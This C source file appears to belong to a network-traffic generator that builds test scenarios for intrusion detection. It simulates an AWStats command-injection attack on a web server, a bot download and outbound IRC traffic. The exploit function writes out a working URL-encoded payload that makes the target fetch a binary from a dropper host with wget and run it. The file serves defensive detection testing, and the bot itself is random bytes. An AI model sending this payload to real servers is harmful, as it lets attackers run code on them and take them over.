/*
 * sc_outbound_irc.c - seed 004: the public web server takes an exploit
 * request (AWStats configdir command injection), fetches a bot, and the
 * bot connects out to IRC, first on 6667 and then on a port that is not
 * IRC's (--port, default 443). The web server is no_egress in the policy.
 */
#include <stdio.h>
#include <string.h>

#include "irc.h"
#include "scenario.h"

#define IRC_SERVER "irc.hub.example-chat.net"

static int
exploit(struct gen_ctx *g, gen_time_t t, uint32_t attacker, uint32_t drop)
{
	char req[512], ip[16];
	struct gen_tcp c;

	snprintf(req, sizeof(req), "GET /cgi-bin/awstats.pl?configdir=%%7cecho"
	    "%%3becho%%3bcd%%20%%2ftmp%%3bwget%%20http%%3a%%2f%%2f%s%%2fbot%%3b"
	    "chmod%%20%%2bx%%20bot%%3b.%%2fbot%%3becho%%3becho%%7c HTTP/1.1\r\n"
	    "Host: 192.0.2.80\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0)"
	    "\r\nAccept: */*\r\n\r\n", gen_ipstr(drop, ip));
	gen_tcp_init(g, &c, t, attacker, SITE_WEB, 80);
	if (gen_tcp_connect(g, &c) == -1 ||
	    gen_tcp_sendstr(g, &c, 1, req) == -1 ||
	    gen_tcp_sendstr(g, &c, 0, "HTTP/1.1 200 OK\r\nServer: Apache/2.4.57"
	    "\r\nContent-Type: text/html\r\nContent-Length: 14\r\n\r\n"
	    "<html>\n</html>") == -1)
		return -1;
	return gen_tcp_close(g, &c, 0);
}

/* The web server downloads the bot from the dropper host (no DNS). */
static gen_time_t
fetch(struct gen_ctx *g, gen_time_t t, uint32_t drop)
{
	static uint8_t body[24000];
	char hdr[256], ip[16];
	struct gen_tcp c;
	int hl;

	gen_tcp_init(g, &c, t, SITE_WEB, drop, 80);
	gen_ipstr(drop, ip);
	snprintf(hdr, sizeof(hdr), "GET /bot HTTP/1.0\r\nUser-Agent: Wget/1.21"
	    "\r\nAccept: */*\r\nHost: %s\r\n\r\n", ip);
	if (gen_tcp_connect(g, &c) == -1 || gen_tcp_sendstr(g, &c, 1, hdr) ==
	    -1)
		return -1;
	hl = snprintf((char *)body, 200, "HTTP/1.0 200 OK\r\nContent-Type: "
	    "application/octet-stream\r\nContent-Length: %d\r\n\r\n\177ELF",
	    (int)sizeof(body) - 200);
	gen_rng_bytes(&g->rng, body + hl, sizeof(body) - (size_t)hl);
	if (gen_tcp_send(g, &c, 0, body, (size_t)hl - 4 + sizeof(body) - 200) ==
	    -1 || gen_tcp_close(g, &c, 0) == -1)
		return -1;
	return c.t;
}

static json_t *
egress(struct gen_ctx *g, uint32_t dst, int port, gen_time_t t)
{
	json_t *f = gen_fact(g, "no-egress", SITE_WEB, dst, port);

	gen_fact_time(f, "first", t);
	return f;
}

static int
irc(struct gen_ctx *g, gen_time_t t, uint32_t srv, uint16_t port,
    const char *nick, const char *chan)
{
	struct gen_tcp c;
	json_t *f;

	gen_tcp_init(g, &c, t, SITE_WEB, srv, port);
	f = gen_fact(g, "outbound-irc", SITE_WEB, srv, port);
	json_object_set_new(f, "nick", json_string(nick));
	json_object_set_new(f, "channel", json_string(chan));
	json_object_set_new(f, "server", json_string(IRC_SERVER));
	json_object_set_new(f, "by_port", json_boolean(port == 6667));
	gen_fact_time(f, "first", t);
	egress(g, srv, port, t);
	if (gen_tcp_connect(g, &c) == -1 ||
	    gen_irc_session(g, &c, IRC_SERVER, nick, chan) == -1)
		return -1;
	if (port == 6667)
		return gen_tcp_close(g, &c, 1);
	/* The second server kills the bot and drops the connection. */
	if (gen_tcp_sendstr(g, &c, 0, "ERROR :Closing Link: bot (Killed)\r\n")
	    == -1)
		return -1;
	return gen_tcp_reset(g, &c, 0);
}

static int
outbound_irc(struct gen_ctx *g)
{
	uint32_t attacker = gen_public_addr(g), drop = gen_public_addr(g);
	uint32_t srv = gen_public_addr(g), srv2 = gen_public_addr(g);
	uint16_t alt = g->opt.port ? (uint16_t)g->opt.port : 443;
	gen_time_t t = g->opt.start + GEN_S(20);
	char nick[16];

	snprintf(nick, sizeof(nick), "nj|%04u", gen_rng_below(&g->rng, 10000));
	if (exploit(g, t, attacker, drop) == -1)
		return -1;
	egress(g, drop, 80, t + GEN_S(2));
	if ((t = fetch(g, t + GEN_S(2), drop)) == -1 ||
	    irc(g, t + GEN_S(3), srv, 6667, nick, "#k33p") == -1 ||
	    irc(g, t + GEN_MIN(5), srv2, alt, nick, "#k33p") == -1)
		return -1;
	return 0;
}

const struct gen_scenario sc_outbound_irc = {
	.name = "outbound-irc",
	.summary = "exploit request to the web server, bot download, IRC out on "
	    "6667 and on --port (default 443)",
	.default_duration = GEN_MIN(10),
	.run = outbound_irc,
};
